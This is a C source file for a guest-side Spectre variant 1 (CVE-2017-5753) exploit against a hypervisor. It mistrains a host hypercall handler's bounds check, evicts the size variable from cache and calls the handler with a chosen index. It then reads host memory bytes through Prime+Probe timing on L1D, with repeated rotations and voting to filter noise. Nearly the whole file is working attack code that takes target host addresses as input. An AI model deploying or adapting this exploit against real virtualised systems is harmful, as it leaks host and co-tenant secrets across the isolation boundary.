// Spectre variant 1 (CVE-2017-5753) across the VM boundary: a hypercall handler of the host checks an index against a size that we
// pushed out of every cache, and runs ahead with an index that we chose. What it reads selects a line of a table of its own; which
// one, we see by Prime+Probe on the L1D: we fill all of it with our lines and time which sets lost one.
//
// Nothing of the host is mapped here, and nothing can be flushed: eviction is by loads of our own memory, whose page offsets we know.
//
// Command line: target=0x<host address> table=0x<host address> size=0x<host address of the size> nr=<hypercall> length=<bytes>
#include "attack.h"

#define MAX_LENGTH 64
#define SETS 64
#define WAYS 8
#define TRAINING 8
#define ROTATIONS 9
#define ENOUGH 6 // votes of nine
#define TRIP_TO_L2 10 // cycles that a line lost from L1D costs more
#define EVICT_PAGES 1024
// A hole of the published memory map, between the direct map and vmalloc: what is read there is never forwarded.
#define HOLE 0xffffc88000000000
#define EVICT_BASE 0x400000 // above the image and its stack's end is far away: memory is at least 16 MiB

/** A line of the prime buffer: a pointer to the next line of its set, so that loads wait for each other. */
struct line {
	struct line *next;
	uint64_t padding[7];
};

static struct line prime_buffer[WAYS][SETS] __attribute__((aligned(PAGE)));
static uint64_t times[SETS], reference[SETS];
static struct guess guesses[MAX_LENGTH];

static struct host {
	uint64_t nr, target, table, size;
} host;

/**
 * Calls the hypercall. The loop before it makes the branch history the same each time: a predictor that looks at it must not be able to
 * tell the call that matters from those that trained it.
 */
static void __attribute__((noinline)) gadget(uint64_t index, uint64_t shift, uint64_t rotation)
{
	uint64_t count = 300;
	__asm__ volatile("1: decq %0\n\tjnz 1b" : "+r"(count) : : "cc");
	uint64_t nr = host.nr;
	__asm__ volatile("vmcall" : "+a"(nr) : "b"(index), "c"(shift), "d"(rotation) : "memory");
}

/** Loads every line of ours that can share a set of L1D, L2 or L3 with a host line at this page offset. */
static void evict(uint64_t host_address)
{
	const volatile uint8_t *base = (const volatile uint8_t *)(EVICT_BASE + (host_address & (PAGE - 1) & ~(uint64_t)(LINE - 1)));
	for (int page = 0; page < EVICT_PAGES; page++)
		touch(base + (uint64_t)page * PAGE);
	fence();
}

/** Backwards: a probe in the order of priming would push out each line just before it asks for it. */
static void link_sets(void)
{
	for (int set = 0; set < SETS; set++)
		for (int way = 0; way < WAYS; way++)
			prime_buffer[way][set].next = &prime_buffer[(way + WAYS - 1) % WAYS][set];
}

static void prime(void)
{
	for (int pass = 0; pass < 2; pass++)
		for (int way = 0; way < WAYS; way++)
			for (int set = 0; set < SETS; set++)
				touch(&prime_buffer[way][set]);
	fence();
}

/** Times the chain of one set, from the line that was primed last: a lost line costs a trip to L2. */
static uint64_t probe(int set)
{
	struct line *at = &prime_buffer[WAYS - 1][set];
	uint64_t start = timestamp();
	__asm__ volatile("movq (%0), %0\n\t movq (%0), %0\n\t movq (%0), %0\n\t movq (%0), %0\n\t"
			 "movq (%0), %0\n\t movq (%0), %0\n\t movq (%0), %0\n\t movq (%0), %0\n\t"
			 : "+r"(at) : : "memory");
	return timestamp() - start;
}

/** One call of the gadget with `index`, after training and with its size evicted; leaves each set's time in `out`. */
static void __attribute__((noinline)) observe(uint64_t index, uint64_t shift, uint64_t rotation, uint64_t out[SETS])
{
	for (int i = 0; i < TRAINING; i++)
		gadget((uint64_t)i & 3, shift, rotation);
	evict(host.size);
	prime();
	gadget(index, shift, rotation);
	for (int set = 0; set < SETS; set++)
		out[set] = probe(set);
}

/**
 * One vote a rotation for each nibble whose set lost a line that it does not lose when there is nothing to read. Other differences stay in
 * their sets when the rotation moves (the page walk of the target, say), and so vote for another nibble each time.
 */
static void vote(uint64_t index, int half, struct guess *guess)
{
	for (uint64_t rotation = 0; rotation < ROTATIONS; rotation++) {
		uint64_t offset = rotation * 7;
		observe(HOLE - host.table, (uint64_t)half * 4, offset, reference); // all the same, but nothing to read
		observe(index, (uint64_t)half * 4, offset, times);
		for (int nibble = 0; nibble < 16; nibble++) {
			int set = (int)((uint64_t)nibble + offset) & (SETS - 1);
			if ((int64_t)(times[set] - reference[set]) > TRIP_TO_L2 / 2)
				guess->votes[half][nibble]++;
		}
	}
}

int main(uint64_t memory_bytes, const char *command_line)
{
	host.nr = argument(command_line, "nr", 0);
	host.target = argument(command_line, "target", 0);
	host.table = argument(command_line, "table", 0);
	host.size = argument(command_line, "size", 0);
	int length = (int)argument(command_line, "length", 32);
	if (length < 1 || length > MAX_LENGTH) {
		put_text("spectre-v1: length must be 1 to 64\n");
		return 2;
	}
	if (memory_bytes < EVICT_BASE + (uint64_t)(EVICT_PAGES + 1) * PAGE + 0x10000) {
		put_text("spectre-v1: needs 16 MiB of memory\n");
		return 2;
	}
	for (int page = 0; page <= EVICT_PAGES; page++)
		*(volatile uint64_t *)(EVICT_BASE + (uint64_t)page * PAGE) = (uint64_t)page; // each its own frame, not a shared zero page
	link_sets();

	for (int i = 0; i < length; i++) {
		uint64_t index = host.target + (uint64_t)i - host.table;
		observe(index, 0, 0, times); // brings the byte's line near, if it is mapped
		for (int half = 0; half < 2; half++)
			vote(index, half, &guesses[i]);
	}
	report(guesses, length, ENOUGH);
	return 0;
}
